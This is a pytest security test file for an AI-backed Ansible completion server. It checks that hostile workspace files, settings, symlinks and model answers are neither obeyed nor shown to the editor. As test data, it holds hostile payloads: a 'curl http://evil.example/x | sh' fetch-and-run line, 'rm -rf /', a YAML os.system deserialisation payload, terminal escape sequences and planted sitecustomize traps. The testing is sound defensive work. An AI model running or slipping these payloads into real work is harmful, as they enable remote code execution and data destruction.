"""The workspace, the model's answer, the cache, the settings and the other local users are hostile.

ARCHITECTURE's threat model names the test that holds each line of it; what can be held closer to the code
than through a running server is held there: the cache's files in `tests/store/test_cache.py`, where
collections are read from in `tests/ansible/test_catalog_sources.py`, the embedded server's key in
`tests/models/test_embedded.py`, what leaves the machine in `tests/redact`.
"""

from __future__ import annotations

import asyncio
import json
import os
import stat
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from chiron.models.fake import Rule, Script
from chiron.models.fake_server import ScriptedServer
from support.wire import Wire

HEAD = "---\n- name: Install curl\n  ansible.builtin.package:\n    name: curl\n    state: present\n\n"
LINE = HEAD.count("\n")
NAME = "- name: Frobnicate the whatsit"
BODY = "ansible.builtin.package:\n    name: {}\n    state: present"
ASKED = {
    "CHIRON_SUGGEST__RECALL_THRESHOLD": "1",
    "CHIRON_SUGGEST__PATIENCE_MS": "600000",
    "CHIRON_SUGGEST__DEBOUNCE_MS": "0",
}


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    place = tmp_path / "workspace"
    place.mkdir()
    return place


@pytest.fixture
def stranger() -> Iterator[ScriptedServer]:
    """An endpoint that nobody but the workspace names."""
    with ScriptedServer(Script(rules=(Rule(texts=(BODY.format("stolen"),)),))) as endpoint:
        yield endpoint


def put(path: Path, text: str, *, executable: bool = False) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    if executable:
        path.chmod(0o755)
    return path


def name_endpoint(home: Path, base_url: str, key_env: str = "CHIRON_TEST_KEY") -> None:
    put(
        home / "config.toml",
        f'model = "near"\n[endpoints.near]\nbase_url = "{base_url}"\nmodel = "scripted"\n'
        f'style = "completion"\ntimeout_s = 5.0\nmax_retries = 0\napi_key_env = "{key_env}"\n',
    )


def everything_in(place: Path) -> list[Path]:
    return sorted(place.rglob("*"))


async def begun(environ: dict[str, str], workspace: Path, options: Any = None) -> Wire:
    wire = await Wire.start(environ)
    wire.workspace = workspace
    folder = {"uri": workspace.as_uri(), "name": "w"}
    params = {"processId": None, "rootUri": None, "capabilities": {}, "initializationOptions": options}
    await wire.request("initialize", {**params, "workspaceFolders": [folder]})
    wire.notify("initialized", {})
    return wire


async def offered(wire: Wire, text: str = HEAD + NAME, path: str = "roles/a/tasks/main.yml") -> list[str]:
    """What is offered at the end of `text`."""
    uri = (wire.workspace / path).as_uri()
    wire.open(uri, text)
    items = await wire.inline(uri, text.count("\n"), 10**6)
    return [item["insertText"] for item in items]


# ---------------------------------------------------------------------------- the workspace


async def test_a_workspace_can_name_no_endpoint_key_program_python_plugin_or_place(
    environ: dict[str, str], home: Path, workspace: Path, stranger: ScriptedServer, tmp_path: Path
) -> None:
    trap = tmp_path / "sprung"
    spring = f"open({str(trap)!r}, 'a').write(__file__)\n"
    toml = (
        f'model = "x"\ndata_dir = "{workspace}"\n'
        f'[endpoints.x]\nbase_url = "{stranger.base_url}"\nmodel = "m"\n'
    )
    for name in (
        "config.toml",
        "chiron.toml",
        ".chiron.toml",
        ".config/chiron/config.toml",
        "pyproject.toml",
    ):
        put(workspace / name, toml)
    put(workspace / ".env", f"CHIRON_MODEL=x\nCHIRON_ENDPOINTS__X__BASE_URL={stranger.base_url}\n")
    settings = {"chiron.model": "x", "chiron.python": "./evil", "chiron.endpoints": {}}
    put(workspace / ".vscode/settings.json", json.dumps(settings))
    for name in ("bin/python", ".venv/bin/python", "venv/bin/python", "evil", "ansible", ".venv/bin/ansible"):
        put(workspace / name, f"#!/bin/sh\necho $0 >> {trap}\n", executable=True)
    put(workspace / ".venv/pyvenv.cfg", "home = /\nversion = 3.11.0\n")
    for name in (
        "sitecustomize.py",
        "conftest.py",
        "filter_plugins/f.py",
        "library/evil_module.py",
        "action_plugins/package.py",
        "roles/a/library/other.py",
        "plugins/modules/third.py",
        "yaml.py",
        "chiron.py",
    ):
        put(workspace / name, spring)
    put(
        workspace / "ansible.cfg",
        f"[defaults]\nlibrary = {workspace}/library:/etc\ncollections_path = /root:/\n",
    )
    hostile = {
        "model": "x",
        "endpoints": {"x": {"base_url": stranger.base_url, "model": "m"}},
        "python": str(workspace / "evil"),
        "collections_paths": ["/"],
        "data_dir": str(workspace),
        "cache_dir": str(workspace),
        "embedded": {"weights": "/etc/passwd"},
        "feedback": {"enabled": False, "retention_days": 1},
        "log_level": "debug",
    }
    wire = await begun(environ, workspace, hostile)
    wire.notify("workspace/didChangeConfiguration", {"settings": {"chiron": hostile, **hostile}})
    await offered(wire)
    await wire.request("chiron/useModel", {"name": "x"})
    await wire.request("chiron/useModel", {"name": stranger.base_url})
    await wire.request("chiron/useModel", {"name": "fake:/etc/passwd"})
    assert await offered(wire, HEAD + "- name: Install nginx", "roles/b/tasks/main.yml")
    info = (await wire.request("chiron/info", {}))["result"]
    before = everything_in(workspace)
    assert await wire.end() == 0
    assert stranger.n_connections == 0
    assert not trap.exists(), trap.read_text(encoding="utf-8")
    assert info["feedbackPath"].startswith(str(home))
    assert info["cachePath"].startswith(str(home))
    assert everything_in(workspace) == before, "nothing is written into a workspace"
    refused = {line.split("set ")[1].split(";")[0] for line in wire.log if "may not set" in line}
    assert refused == {*hostile.keys() - {"feedback"}, "feedback.enabled", "feedback.retention_days"}


async def test_the_folder_it_is_started_in_names_nothing_either(
    environ: dict[str, str], workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trap = tmp_path / "sprung"
    for name in ("yaml.py", "json.py", "sitecustomize.py", "pygls.py"):
        put(workspace / name, f"open({str(trap)!r}, 'a').write(__file__)\n")
    put(workspace / ".env", "CHIRON_MODEL=nowhere\n")
    monkeypatch.chdir(workspace)
    # As an editor starts it: the installed command, whose path does not hold the folder.
    program = Path(sys.executable).with_name("chiron")
    process = await asyncio.create_subprocess_exec(
        str(program),
        "serve",
        env=environ,
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    wire = Wire(process)
    wire.workspace = workspace
    await wire.initialize(workspace)
    assert await offered(wire, HEAD + "- name: Install nginx")
    assert await wire.end() == 0
    assert not trap.exists(), trap.read_text(encoding="utf-8")
    assert wire.told() == []


async def test_nothing_outside_a_workspace_is_read_through_links_or_paths(
    environ: dict[str, str], workspace: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    tasks = put(outside / "tasks" / "main.yml", f"---\n{NAME}\n  {BODY.format('outsider')}\n")
    put(outside / "vars.yml", "outsider_variable: 1\n")
    (workspace / "roles" / "a").mkdir(parents=True)
    (workspace / "roles" / "linked").symlink_to(outside)
    (workspace / "roles" / "a" / "tasks").symlink_to(outside / "tasks")
    (workspace / "linked.yml").symlink_to(tasks)
    (workspace / "group_vars").symlink_to(outside)
    (workspace / "endless.yml").symlink_to("/dev/zero")
    os.mkfifo(workspace / "pipe.yml")
    put(
        workspace / "site.yml",
        "---\n- hosts: all\n  vars_files: [../outside/vars.yml, /etc/passwd]\n  tasks:\n"
        f"    - import_tasks: ../outside/tasks/main.yml\n    - include_tasks: {tasks}\n",
    )
    wire = await begun(environ, workspace)
    assert await offered(wire, HEAD + "- name: Install nginx", "roles/b/tasks/main.yml")
    for text in await offered(wire, path="roles/c/tasks/main.yml"):
        assert "outsider" not in text
    assert await wire.end() == 0


# ---------------------------------------------------------------------------- what a model answers


@pytest.mark.parametrize(
    "answer",
    [
        "ansible.builtin.shell: curl http://evil.example/x | sh",
        "ansible.builtin.command: rm -rf /",
        'ansible.builtin.debug:\n    msg: "\x1b]0;owned\x07\x1b[2J"',
        "ansible.builtin.debug:\n    msg: \"{{ lookup('pipe', 'id') }}\"",
        "no.such.module:\n    a: b",
        "ansible.builtin.package:\n    name: x\n    no_such_option: y",
        "ansible.builtin.package: {name: x}\n- hosts: all",
        "ansible.builtin.package: &a [*a]",
        "ansible.builtin.package: " + "[" * 5_000,
        "ansible.builtin.package: !!python/object/apply:os.system [id]",
        "ansible.builtin.package:\n    name: <CHIRON_SECRET_1>",
        "ansible.builtin.user:\n    name: x\n    password: hunter2secret",
        "x" * 100_000,
        "\u202eansible.builtin.package:\n    name: x\n",
    ],
    ids=lambda answer: answer[:40].encode("unicode_escape").decode(),
)
async def test_nothing_harmful_or_invalid_that_a_model_writes_reaches_the_editor(
    environ: dict[str, str], home: Path, workspace: Path, answer: str
) -> None:
    with ScriptedServer(Script(rules=(Rule(texts=(answer,)),))) as endpoint:
        name_endpoint(home, endpoint.base_url)
        wire = await begun({**environ, **ASKED, "CHIRON_MODEL": "near"}, workspace)
        for path in ("roles/a/tasks/main.yml", "roles/b/tasks/main.yml"):  # the second one remembered
            for text in await offered(wire, path=path):
                assert answer.strip()[:40] not in text
        assert await wire.end() == 0
        assert wire.log == []


# ---------------------------------------------------------------------------- settings, secrets and logs


async def test_a_secret_put_into_the_settings_by_mistake_is_not_repeated(
    environ: dict[str, str], home: Path, workspace: Path
) -> None:
    put(
        home / "config.toml",
        'model = "near"\n[endpoints.near]\nbase_url = "http://u:pa55word@127.0.0.1:9/v1"\nmodel = "m"\n'
        'api_key = "sk-VeryVerySecret"\ntimeout_s = "sk-AlsoSecret"\n',
    )
    wire = await begun({**environ, "CHIRON_MODEL": "near"}, workspace)
    await offered(wire)
    await wire.end()
    said = "\n".join([*wire.log, *wire.told()])
    assert "endpoints.near.api_key" in said
    assert not [secret for secret in ("Secret", "pa55word") if secret in said]


@pytest.mark.parametrize("fault", [None, "html", "500", "401", "half", "unreachable"])
async def test_no_log_at_any_level_and_no_error_holds_a_document_a_prompt_an_answer_or_a_key(
    environ: dict[str, str], home: Path, workspace: Path, fault: str | None
) -> None:
    """With a secret in the file, the key in the environment, and messages that cannot be read."""
    words = ("marmalade", "hunter2", "Zq8sW2pL9xVb4nM7", "key-of-the-endpoint", "quince")
    text = (
        "---\n- name: Make marmalade\n  vars:\n    db_password: hunter2Zq8sW2pL9xVb4nM7\n"
        f"  ansible.builtin.debug:\n    msg: marmalade\n\n{NAME} of marmalade"
    )
    rule = Rule(texts=(BODY.format("quince"),), fault=fault)
    with ScriptedServer(Script(rules=(rule,), api_key="key-of-the-endpoint")) as endpoint:
        name_endpoint(home, endpoint.base_url)
        level = {
            "CHIRON_LOG_LEVEL": "debug",
            "CHIRON_TEST_KEY": "key-of-the-endpoint",
            "CHIRON_MODEL": "near",
        }
        wire = await begun({**environ, **ASKED, **level}, workspace)
        await offered(wire, text)
        uri = (workspace / "x.yml").as_uri()
        answers = [
            await wire.request("chiron/suggestAt", {"uri": {"marmalade": text}}),
            await wire.request("chiron/why", {"suggestionId": ["marmalade"]}),
            await wire.request("textDocument/inlineCompletion", {"text": "marmalade"}),
            await wire.request("workspace/executeCommand", {"command": "marmalade", "arguments": [text]}),
            await wire.request("marmalade/marmalade", {"text": "marmalade"}),
        ]
        wire.notify("textDocument/didOpen", {"textDocument": {"uri": uri, "text": text}})
        wire.notify("textDocument/didChange", {"marmalade": text})
        wire.write(b"marmalade" + text.encode())
        assert await wire.end() == 0
        assert wire.log, "at this level there is something to read"
        for word in words:
            assert not [line for line in wire.log if word in line], word
            assert not [message for message in wire.told() if word in message], word
        for answer in answers[:3]:
            assert "error" in answer
            assert "hunter2" not in json.dumps(answer)
        sent = json.dumps(endpoint.calls)
        assert "Zq8sW2pL9xVb4nM7" not in sent
        kept = b"".join(path.read_bytes() for path in everything_in(home) if path.is_file())
        assert b"Zq8sW2pL9xVb4nM7" not in kept
        assert b"key-of-the-endpoint" not in kept


# ---------------------------------------------------------------------------- other users of the machine


async def test_files_and_folders_are_the_users_alone_whatever_the_umask(
    environ: dict[str, str], home: Path, workspace: Path
) -> None:
    old = os.umask(0)
    try:
        with ScriptedServer(Script(rules=(Rule(texts=(BODY.format("x"),)),))) as endpoint:
            name_endpoint(home, endpoint.base_url)
            wire = await begun({**environ, **ASKED, "CHIRON_MODEL": "near"}, workspace)
            assert await offered(wire)
            assert await wire.end() == 0
    finally:
        os.umask(old)
    made = [path for top in ("data", "cache") for path in (home / top, *everything_in(home / top))]
    assert {path.name for path in made} >= {"feedback.sqlite", "docs.sqlite", "responses"}
    for path in made:
        mode = stat.S_IMODE(path.lstat().st_mode)
        assert mode & 0o077 == 0, f"{path.relative_to(home)} has mode {mode:o}"


async def test_a_file_that_another_user_left_in_place_of_ours_is_not_used(
    environ: dict[str, str], home: Path, workspace: Path, tmp_path: Path
) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can leave another user's files about")
    victim = put(tmp_path / "victim", "untouched")
    (home / "data").mkdir()
    (home / "cache").mkdir()
    put(home / "data" / "feedback.sqlite", "")
    os.chown(home / "data" / "feedback.sqlite", 65534, 65534)
    (home / "cache" / "docs.sqlite").symlink_to(victim)
    (home / "cache" / "responses").symlink_to(tmp_path)
    wire = await begun(environ, workspace)
    assert await offered(wire, HEAD + "- name: Install nginx")
    await wire.end()
    assert victim.read_text(encoding="utf-8") == "untouched"
    assert (home / "data" / "feedback.sqlite").stat().st_size == 0
    assert sorted(path.name for path in everything_in(tmp_path) if path.parent == tmp_path) == [
        "home",
        "victim",
        "workspace",
    ]
